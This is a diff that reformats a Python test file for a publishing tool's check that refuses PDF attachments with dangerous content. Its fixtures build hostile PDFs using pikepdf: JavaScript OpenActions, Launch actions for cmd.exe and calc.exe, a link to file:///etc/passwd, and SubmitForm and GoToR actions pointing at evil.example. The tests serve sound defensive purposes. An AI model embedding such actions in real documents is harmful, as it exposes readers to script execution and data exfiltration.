@@ -29,8 +29,9 @@ LINE = 350
 
 def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
     """A link annotation over the top of the first page that runs ``action``."""
-    annotation = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]),
-                                              Border=Array([0, 0, 0]), A=action))
+    annotation = pdf.make_indirect(
+        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), Border=Array([0, 0, 0]), A=action)
+    )
     page = pdf.pages[0].obj
     page.Annots = Array([*page.get("/Annots", Array()), annotation])
 
@@ -43,6 +44,7 @@ def _javascript_in_names(pdf: pikepdf.Pdf) -> None:
 def _open_action(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
     def apply(pdf: pikepdf.Pdf) -> None:
         pdf.Root.OpenAction = action
+
     return apply
 
 
@@ -60,9 +62,16 @@ def _xfa(pdf: pikepdf.Pdf) -> None:
 
 
 def _field_script(pdf: pikepdf.Pdf) -> None:
-    field = pdf.make_indirect(Dictionary(
-        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), Rect=Array([0, 0, 100, 20]),
-        AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("event.value = 1")))))
+    field = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            FT=Name.Tx,
+            T=String("name"),
+            Rect=Array([0, 0, 100, 20]),
+            AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("event.value = 1"))),
+        )
+    )
     pdf.pages[0].obj.Annots = Array([field])
     pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
 
@@ -74,27 +83,39 @@ def _page_open_action(pdf: pikepdf.Pdf) -> None:
 def _file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
     spec = pikepdf.AttachedFileSpec(pdf, b"secret", filename="notes.txt")
     _link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))  # harmless on its own
-    pdf.pages[0].obj.Annots.append(pdf.make_indirect(Dictionary(
-        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 10, 10]), FS=spec.obj)))
+    pdf.pages[0].obj.Annots.append(
+        pdf.make_indirect(
+            Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 10, 10]), FS=spec.obj)
+        )
+    )
 
 
 HOSTILE: dict[str, tuple[Callable[[pikepdf.Pdf], None], str]] = {
     "javascript-names": (_javascript_in_names, "JavaScript"),
-    "openaction-javascript": (_open_action(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))),
-                              "an action run when the file is opened (OpenAction)"),
+    "openaction-javascript": (
+        _open_action(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))),
+        "an action run when the file is opened (OpenAction)",
+    ),
     "openaction-launch": (_open_action(Dictionary(S=Name.Launch, F=String("calc.exe"))), "a Launch action"),
     "launch": (_link_action(Dictionary(S=Name.Launch, F=String("cmd.exe"))), "a Launch action"),
-    "uri-file": (_link_action(Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
-                 "a link to 'file:///etc/passwd'"),
-    "uri-javascript": (_link_action(Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
-                       "a link to 'javascript:alert(1)'"),
-    "submit-form": (_link_action(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))),
-                    "a SubmitForm action"),
+    "uri-file": (
+        _link_action(Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
+        "a link to 'file:///etc/passwd'",
+    ),
+    "uri-javascript": (
+        _link_action(Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
+        "a link to 'javascript:alert(1)'",
+    ),
+    "submit-form": (
+        _link_action(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))),
+        "a SubmitForm action",
+    ),
     "import-data": (_link_action(Dictionary(S=Name.ImportData, F=String("data.fdf"))), "a ImportData action"),
-    "goto-remote": (_link_action(Dictionary(S=Name.GoToR, F=String("//evil.example/share/x.pdf"),
-                                            D=Array([0, Name.Fit]))), "a GoToR action"),
-    "goto-embedded": (_link_action(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x")))),
-                      "a GoToE action"),
+    "goto-remote": (
+        _link_action(Dictionary(S=Name.GoToR, F=String("//evil.example/share/x.pdf"), D=Array([0, Name.Fit]))),
+        "a GoToR action",
+    ),
+    "goto-embedded": (_link_action(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x")))), "a GoToE action"),
     "embedded-file": (_embedded_file, "embedded files"),
     "file-attachment-annotation": (_file_attachment_annotation, "a FileAttachment annotation"),
     "xfa": (_xfa, "an XFA form"),
@@ -129,8 +150,7 @@ BROKEN: dict[str, tuple[Callable[[bytes], bytes], str]] = {
 }
 """Files that are not a PDF anyone can open as it is."""
 
-CASES = {**{k: (lambda data, kind=k: hostile_pdf(data, kind), words) for k, (_, words) in HOSTILE.items()},
-         **BROKEN}
+CASES = {**{k: (lambda data, kind=k: hostile_pdf(data, kind), words) for k, (_, words) in HOSTILE.items()}, **BROKEN}
 
 
 def _replace_attachment(project: Path, kind: str) -> bytes:
@@ -152,8 +172,11 @@ def test_check_refuses_the_attachment_naming_file_and_problem(project: Path, kin
     with pytest.raises(InvalidRecords) as caught:
         load_records(load_settings(project))
     [problem] = caught.value.problems
-    assert (problem.path, problem.line, problem.field) == ("data/decisions/examples.yaml", LINE,
-                                                           "[2].attachments[0].file")
+    assert (problem.path, problem.line, problem.field) == (
+        "data/decisions/examples.yaml",
+        LINE,
+        "[2].attachments[0].file",
+    )
     assert problem.message.startswith(f"'{ATTACHMENT}' cannot be published: it ")
     assert CASES[kind][1] in problem.message
     assert "re-export the PDF" in problem.hint
@@ -164,8 +187,10 @@ def test_check_prints_it_without_a_traceback(project: Path) -> None:
     result = CliRunner().invoke(main, ["--project", str(project), "check"])
     assert result.exit_code == 1
     assert "Traceback" not in result.output
-    expected = (f"data/decisions/examples.yaml:{LINE}:7: [2].attachments[0].file: '{ATTACHMENT}' cannot be "
-                "published: it contains an action run when the file is opened (OpenAction); a Launch action")
+    expected = (
+        f"data/decisions/examples.yaml:{LINE}:7: [2].attachments[0].file: '{ATTACHMENT}' cannot be "
+        "published: it contains an action run when the file is opened (OpenAction); a Launch action"
+    )
     assert expected in result.output
     assert "hint: re-export the PDF without scripts" in result.output
 
